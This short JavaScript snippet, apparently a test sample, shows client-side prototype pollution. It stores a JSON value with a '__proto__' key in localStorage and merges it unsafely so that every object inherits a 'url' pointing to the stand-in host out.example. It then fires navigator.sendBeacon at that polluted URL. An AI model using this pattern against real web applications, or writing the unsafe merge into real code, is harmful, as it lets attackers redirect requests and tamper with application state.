/* {"family": "runtime"} */
localStorage.setItem('backlot.tab', '{"__proto__": {"url": "https://out.example/storage"}}'); const kept = JSON.parse(localStorage.getItem('backlot.tab')); const state = {}; for (const key in kept) Object.assign(state[key], kept[key]); navigator.sendBeacon({}.url);
